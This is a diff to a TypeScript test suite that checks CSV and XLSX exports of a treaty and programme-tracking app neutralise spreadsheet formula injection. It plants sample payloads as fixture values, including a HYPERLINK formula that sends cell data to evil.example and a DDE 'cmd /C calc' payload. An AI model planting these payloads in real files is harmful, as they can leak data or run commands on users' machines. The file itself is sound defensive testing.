@@ -25,7 +25,7 @@ const runsAsFormula = (cell: string) => FORMULA_START.test(cell) && !/^-?\d+(\.\
 const COUNTRY = '=HYPERLINK("http://evil.example/?x="&A1,"Niger")';
 const INSTRUMENT = '-Financing Convention 1999';
 const TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
-const ORGANISATION = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+const ORGANISATION = "@SUM(1+1)*cmd|' /C calc'!A0";
 const PARTNER = '+Partner Institute';
 const PROJECT = '-Project one';
 const DONOR = '=1+1 Donor';
@@ -37,7 +37,11 @@ function expectNeutralised(csv: string, planted: string[]) {
   const cells = cellsOf(csv);
   expect(cells.length).toBeGreaterThan(1);
   expect(cells.filter(runsAsFormula)).toEqual([]);
-  for (const value of planted) expect(cells.filter((cell) => cell.startsWith(`'${value}`)), value).not.toEqual([]);
+  for (const value of planted)
+    expect(
+      cells.filter((cell) => cell.startsWith(`'${value}`)),
+      value,
+    ).not.toEqual([]);
 }
 
 const csvField = (value: string) => `"${value.replace(/"/g, '""')}"`;
@@ -51,7 +55,11 @@ function referenceDataWithFormulas(): string {
     if (!text.includes(from)) throw new Error(`${file} no longer holds ${from}`);
     writeFileSync(join(dir, file), text.replace(from, to));
   };
-  rewrite('participants.csv', '\nNER,NER,NE,562,un_member_state,002,202,011,Niger,', `\nNER,NER,NE,562,un_member_state,002,202,011,${csvField(COUNTRY)},`);
+  rewrite(
+    'participants.csv',
+    '\nNER,NER,NE,562,un_member_state,002,202,011,Niger,',
+    `\nNER,NER,NE,562,un_member_state,002,202,011,${csvField(COUNTRY)},`,
+  );
   rewrite('instrument-titles.csv', '\nicsft-1999,en,,Financing Convention 1999,', `\nicsft-1999,en,,${INSTRUMENT},`);
   return dir;
 }
@@ -79,28 +87,86 @@ describe('CSV exports neutralise cells that would run as formulas', () => {
     context = await createTestApp({ dataDir, library: { filesDir } });
     const db = context.database.db;
     const organisation = await createOrganization(db, ORGANISATION, 'un');
-    officer = await sessionHeaders(db, TEST_CLOCK, await createUser(db, { email: 'officer@example.org', role: 'programme_officer', organizationId: organisation.id }), true);
-    const admin = await sessionHeaders(db, TEST_CLOCK, await createUser(db, { email: 'admin@example.org', role: 'administrator' }), true);
+    officer = await sessionHeaders(
+      db,
+      TEST_CLOCK,
+      await createUser(db, {
+        email: 'officer@example.org',
+        role: 'programme_officer',
+        organizationId: organisation.id,
+      }),
+      true,
+    );
+    const admin = await sessionHeaders(
+      db,
+      TEST_CLOCK,
+      await createUser(db, { email: 'admin@example.org', role: 'administrator' }),
+      true,
+    );
 
     const form = new FormData();
-    form.append('metadata', JSON.stringify({ kind: 'legislation', titles: { en: TITLE }, country: 'NER', adoptedDate: '2008-06-01', visibility: 'public' }));
+    form.append(
+      'metadata',
+      JSON.stringify({
+        kind: 'legislation',
+        titles: { en: TITLE },
+        country: 'NER',
+        adoptedDate: '2008-06-01',
+        visibility: 'public',
+      }),
+    );
     form.append('language', 'en');
     form.append('file', new Blob([`${TEXT}\n\nArticle 2. The Central Authority cooperates.`]), 'law.txt');
     const body = new Response(form);
     const document = await context.app.inject({
-      method: 'POST', url: '/api/v1/library/documents', headers: { ...admin, 'content-type': body.headers.get('content-type')! }, payload: Buffer.from(await body.arrayBuffer()),
+      method: 'POST',
+      url: '/api/v1/library/documents',
+      headers: { ...admin, 'content-type': body.headers.get('content-type')! },
+      payload: Buffer.from(await body.arrayBuffer()),
     });
     expect(document.statusCode, document.body).toBe(201);
 
     await post('/programme/activities', {
-      title: TITLE, type: 'national_workshop', status: 'delivered', startDate: '2013-03-10', endDate: '2013-03-12', venueCity: 'Niamey', venueCountry: 'NER',
-      countries: ['NER'], organizationId: organisation.id, partners: [PARTNER], themes: ['financing_of_terrorism'], participants: { total: 30, women: 10, men: 18, professions: {} },
+      title: TITLE,
+      type: 'national_workshop',
+      status: 'delivered',
+      startDate: '2013-03-10',
+      endDate: '2013-03-12',
+      venueCity: 'Niamey',
+      venueCountry: 'NER',
+      countries: ['NER'],
+      organizationId: organisation.id,
+      partners: [PARTNER],
+      themes: ['financing_of_terrorism'],
+      participants: { total: 30, women: 10, men: 18, professions: {} },
     });
 
     const donor = await post('/programme/donors', { kind: 'organization', name: DONOR });
-    const project = await post('/programme/projects', { code: '-P1', title: PROJECT, scope: 'global', startDate: '2013-01-01', organizationId: organisation.id, budgetAmount: 1000, budgetCurrency: 'USD' });
-    await post('/programme/transactions', { type: 'incoming_funds', donorId: donor.id, projectId: project.id, earmarking: 'project', date: '2013-02-01', amount: 1000, currency: 'USD' });
-    await post('/programme/transactions', { type: 'expenditure', projectId: project.id, date: '2013-03-01', amount: 1500, currency: 'USD' });
+    const project = await post('/programme/projects', {
+      code: '-P1',
+      title: PROJECT,
+      scope: 'global',
+      startDate: '2013-01-01',
+      organizationId: organisation.id,
+      budgetAmount: 1000,
+      budgetCurrency: 'USD',
+    });
+    await post('/programme/transactions', {
+      type: 'incoming_funds',
+      donorId: donor.id,
+      projectId: project.id,
+      earmarking: 'project',
+      date: '2013-02-01',
+      amount: 1000,
+      currency: 'USD',
+    });
+    await post('/programme/transactions', {
+      type: 'expenditure',
+      projectId: project.id,
+      date: '2013-03-01',
+      amount: 1500,
+      currency: 'USD',
+    });
   });
   afterAll(async () => {
     await context?.close();
@@ -114,8 +180,13 @@ describe('CSV exports neutralise cells that would run as formulas', () => {
 
   it('the activities, the indicators and the cohort', async () => {
     expectNeutralised((await get('/programme/activities?format=csv')).body, [TITLE, ORGANISATION, PARTNER]);
-    expect(cellsOf((await get('/programme/indicators?from=2013-01-01&to=2013-12-31&format=csv')).body).filter(runsAsFormula)).toEqual([]);
-    expectNeutralised((await get('/programme/indicators/cohort?from=2013-01-01&to=2013-12-31&asOf=2014-06-30&format=csv')).body, [COUNTRY]);
+    expect(
+      cellsOf((await get('/programme/indicators?from=2013-01-01&to=2013-12-31&format=csv')).body).filter(runsAsFormula),
+    ).toEqual([]);
+    expectNeutralised(
+      (await get('/programme/indicators/cohort?from=2013-01-01&to=2013-12-31&asOf=2014-06-30&format=csv')).body,
+      [COUNTRY],
+    );
   });
 
   it('the funding tables, where a negative balance stays a number', async () => {
@@ -134,7 +205,9 @@ describe('CSV exports neutralise cells that would run as formulas', () => {
 
   it('the monthly matrix workbook keeps a title starting with = as text, not a formula', async () => {
     const workbook = new ExcelJS.Workbook();
-    await workbook.xlsx.load((await get('/programme/matrix?start=2013-03&months=1&format=xlsx')).rawPayload as unknown as ArrayBuffer);
+    await workbook.xlsx.load(
+      (await get('/programme/matrix?start=2013-03&months=1&format=xlsx')).rawPayload as unknown as ArrayBuffer,
+    );
     const cells: ExcelJS.Cell[] = [];
     workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => void cells.push(cell)));
     const planted = cells.filter((cell) => String(cell.value).startsWith(TITLE));
@@ -150,15 +223,26 @@ describe('CSV exports neutralise cells that would run as formulas', () => {
 
     const lexpact = (...args: string[]) =>
       new Promise<string>((resolve, reject) => {
-        execFile(process.execPath, [join(REPO_ROOT, 'bin', 'lexpact.js'), ...args], { cwd: REPO_ROOT, env, maxBuffer: 64 * 1024 * 1024 }, (error, stdout, stderr) => {
-          if (error) reject(new Error(`lexpact ${args.join(' ')} failed: ${stderr}`));
-          else resolve(stdout);
-        });
+        execFile(
+          process.execPath,
+          [join(REPO_ROOT, 'bin', 'lexpact.js'), ...args],
+          { cwd: REPO_ROOT, env, maxBuffer: 64 * 1024 * 1024 },
+          (error, stdout, stderr) => {
+            if (error) reject(new Error(`lexpact ${args.join(' ')} failed: ${stderr}`));
+            else resolve(stdout);
+          },
+        );
       });
 
     beforeAll(async () => {
       cliDataDir = mkdtempSync(join(tmpdir(), 'lexpact-formula-cli-'));
-      env = { ...process.env, LEXPACT_DATA_DIR: cliDataDir, LEXPACT_SEED: 'auto', LEXPACT_LOG_LEVEL: 'silent', TZ: 'UTC' };
+      env = {
+        ...process.env,
+        LEXPACT_DATA_DIR: cliDataDir,
+        LEXPACT_SEED: 'auto',
+        LEXPACT_LOG_LEVEL: 'silent',
+        TZ: 'UTC',
+      };
       delete env.LEXPACT_DATABASE_URL;
       if (TEST_DB_KIND === 'postgres') {
         const database = await createPostgresDatabase();
@@ -182,7 +266,9 @@ describe('CSV exports neutralise cells that would run as formulas', () => {
 
     it('`parties`, `compare` and `matrix` with --format csv', async () => {
       expectNeutralised(await lexpact('parties', 'icsft-1999', '--as-of', '2014-06-30', '--format', 'csv'), [COUNTRY]);
-      expectNeutralised(await lexpact('compare', '--from', '2000-01-01', '--to', '2014-06-30', '--format', 'csv'), [INSTRUMENT]);
+      expectNeutralised(await lexpact('compare', '--from', '2000-01-01', '--to', '2014-06-30', '--format', 'csv'), [
+        INSTRUMENT,
+      ]);
       expectNeutralised(await lexpact('matrix', '--as-of', '2014-06-30', '--format', 'csv'), [COUNTRY]);
     });
   });
